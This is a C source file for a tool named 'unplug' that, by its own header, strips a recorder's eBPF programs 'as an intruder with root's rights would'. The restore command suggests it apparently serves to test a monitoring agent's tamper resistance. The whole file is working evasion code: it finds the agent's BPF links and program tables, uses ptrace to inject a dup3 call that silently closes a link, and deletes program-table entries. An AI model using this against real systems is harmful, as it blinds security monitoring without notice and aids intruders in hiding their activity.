/*
 * Takes a recorder's programs away from it, as an intruder with root's rights would: `unplug list PID` names them, `unplug link PID FD` has the recorder close
 * the link FD (by dup3 over it, so that the number stays taken), `unplug entry MAP KEY` empties a place of a table of programs, and `unplug restore MAP KEY ID` fills it.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static void die(const char *what)
{
	perror(what);
	exit(1);
}

static int bpf(int command, union bpf_attr *attr)
{
	return syscall(SYS_bpf, command, attr, sizeof(*attr));
}

static int by_id(int command, unsigned id)
{
	union bpf_attr attr = { .map_id = id };
	int fd = bpf(command, &attr);

	if (fd < 0)
		die("by id");
	return fd;
}

static void name_program(const char *what, const char *where, unsigned id)
{
	struct bpf_prog_info info = {};
	union bpf_attr attr = { .info.bpf_fd = by_id(BPF_PROG_GET_FD_BY_ID, id), .info.info_len = sizeof(info), .info.info = (long)&info };

	if (bpf(BPF_OBJ_GET_INFO_BY_FD, &attr))
		die("info");
	printf("%s %s %u %s\n", what, where, id, info.name);
	close(attr.info.bpf_fd);
}

static void list_table(unsigned id, unsigned size)
{
	int fd = by_id(BPF_MAP_GET_FD_BY_ID, id);

	for (unsigned key = 0; key < size; key++) {
		unsigned program = 0;
		union bpf_attr attr = { .map_fd = fd, .key = (long)&key, .value = (long)&program };
		char where[32];

		if (bpf(BPF_MAP_LOOKUP_ELEM, &attr))
			continue;
		snprintf(where, sizeof(where), "%u %u", id, key);
		name_program("entry", where, program);
	}
	close(fd);
}

static unsigned field(const char *text, const char *name)
{
	const char *at = strstr(text, name);

	return at ? atoi(at + strlen(name)) : 0;
}

static void list(const char *pid)
{
	char path[600], text[4096];
	struct dirent *entry;
	DIR *dir;

	snprintf(path, sizeof(path), "/proc/%s/fdinfo", pid);
	dir = opendir(path);
	if (!dir)
		die(path);
	while ((entry = readdir(dir))) {
		FILE *file;

		snprintf(path, sizeof(path), "/proc/%s/fdinfo/%s", pid, entry->d_name);
		file = fopen(path, "r");
		if (!file)
			continue;
		text[fread(text, 1, sizeof(text) - 1, file)] = 0;
		fclose(file);
		if (strstr(text, "link_type:") && field(text, "prog_id:"))
			name_program("link", entry->d_name, field(text, "prog_id:"));
		else if (field(text, "map_type:") == BPF_MAP_TYPE_PROG_ARRAY)
			list_table(field(text, "map_id:"), field(text, "max_entries:"));
	}
	closedir(dir);
}

static void replace(pid_t pid, int fd)
{
	struct user_regs_struct before, regs;
	int status;

	if (ptrace(PTRACE_ATTACH, pid, 0, 0))
		die("attach");
	if (waitpid(pid, &status, 0) < 0 || ptrace(PTRACE_GETREGS, pid, 0, &before))
		die("registers");
	/* It waits in a system call: what it called with is right before. */
	if ((ptrace(PTRACE_PEEKTEXT, pid, before.rip - 2, 0) & 0xffff) != 0x050f)
		die("not at a system call");
	regs = before;
	regs.rip -= 2;
	regs.orig_rax = -1;
	regs.rax = SYS_dup3;
	regs.rdi = 2;
	regs.rsi = fd;
	regs.rdx = O_CLOEXEC;
	if (ptrace(PTRACE_SETREGS, pid, 0, &regs) || ptrace(PTRACE_SINGLESTEP, pid, 0, 0))
		die("step");
	if (waitpid(pid, &status, 0) < 0 || ptrace(PTRACE_GETREGS, pid, 0, &regs))
		die("result");
	if (ptrace(PTRACE_SETREGS, pid, 0, &before) || ptrace(PTRACE_DETACH, pid, 0, 0))
		die("detach");
	if ((int)regs.rax != fd) {
		fprintf(stderr, "dup3: %lld\n", (long long)regs.rax);
		exit(1);
	}
}

int main(int argc, char **argv)
{
	if (argc == 3 && !strcmp(argv[1], "list")) {
		list(argv[2]);
	} else if (argc == 4 && !strcmp(argv[1], "link")) {
		replace(atoi(argv[2]), atoi(argv[3]));
	} else if (argc >= 4) {
		unsigned key = atoi(argv[3]), program = 0;
		union bpf_attr attr = { .map_fd = by_id(BPF_MAP_GET_FD_BY_ID, atoi(argv[2])), .key = (long)&key };
		int command = BPF_MAP_DELETE_ELEM;

		if (argc == 5) {
			program = by_id(BPF_PROG_GET_FD_BY_ID, atoi(argv[4]));
			attr.value = (long)&program;
			command = BPF_MAP_UPDATE_ELEM;
		}
		if (bpf(command, &attr))
			die("table");
	} else {
		return 2;
	}
	return 0;
}
